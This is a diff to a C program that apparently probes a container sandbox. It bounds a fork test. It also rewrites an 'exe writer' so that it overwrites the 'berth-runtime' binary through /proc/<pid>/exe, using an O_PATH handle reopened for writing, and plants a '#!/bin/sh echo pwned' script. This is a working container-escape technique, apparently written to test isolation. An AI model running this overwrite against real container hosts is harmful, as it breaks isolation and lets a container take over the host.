@@ -58,7 +58,8 @@ static int cmd_alloc(long mb)
 static int cmd_forks(int n)
 {
 	int ok = 0, err = 0;
-	for (int i = 0; i < n; i++) {
+	pid_t kids[4096];
+	for (int i = 0; i < n && i < 4096; i++) {
 		pid_t p = fork();
 		if (p == 0) {
 			sleep(30);
@@ -68,11 +69,14 @@ static int cmd_forks(int n)
 			err = errno;
 			break;
 		}
-		ok++;
+		kids[ok++] = p;
 	}
 	printf("forked %d errno %d\n", ok, err);
 	fflush(stdout);
-	kill(0, SIGKILL);
+	for (int i = 0; i < ok; i++) {
+		kill(kids[i], SIGKILL);
+		waitpid(kids[i], NULL, 0);
+	}
 	return 0;
 }
 
@@ -126,6 +130,31 @@ static int cmd_ids(void)
 	return 0;
 }
 
+/* Is pid running the container runtime? Only that binary matters here: the
+ * container may of course write its own files, and other processes' binaries
+ * are not the runtime. */
+static int is_runtime(int pid)
+{
+	char path[64], target[PATH_MAX];
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	ssize_t n = readlink(path, target, sizeof(target) - 1);
+	if (n <= 0)
+		return 0;
+	target[n] = '\0';
+	return strstr(target, "berth-runtime") != NULL;
+}
+
+static int try_write(int fd, int pid)
+{
+	static const char junk[] = "#!/bin/sh\necho pwned\n";
+	if (write(fd, junk, sizeof(junk) - 1) > 0) {
+		printf("wrote %d\n", pid);
+		return 1;
+	}
+	close(fd);
+	return 0;
+}
+
 static int cmd_exe_writer(int secs)
 {
 	time_t end = time(NULL) + secs;
@@ -136,26 +165,23 @@ static int cmd_exe_writer(int secs)
 		while (d && (de = readdir(d))) {
 			int pid = atoi(de->d_name);
 			char path[64];
-			if (pid <= 0 || pid == self)
+			if (pid <= 0 || pid == self || !is_runtime(pid))
 				continue;
 			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
 			int fd = open(path, O_WRONLY | O_CLOEXEC);
-			if (fd >= 0) {
-				printf("wrote %d\n", pid);
+			if (fd >= 0 && try_write(fd, pid))
 				return 0;
-			}
-			/* The trick of the original exploit: an O_PATH handle, reopened later. */
+			/* The trick of the original exploit: an O_PATH handle, reopened for
+			 * writing once the runtime has exited and the file is no longer busy. */
 			fd = open(path, O_PATH | O_CLOEXEC);
 			if (fd >= 0) {
 				char again[64];
 				snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
 				for (int i = 0; i < 200; i++) {
 					int w = open(again, O_WRONLY | O_CLOEXEC);
-					if (w >= 0) {
-						printf("wrote %d\n", pid);
+					if (w >= 0 && try_write(w, pid))
 						return 0;
-					}
-					if (errno != ETXTBSY)
+					if (w < 0 && errno != ETXTBSY)
 						break;
 					usleep(1000);
 				}
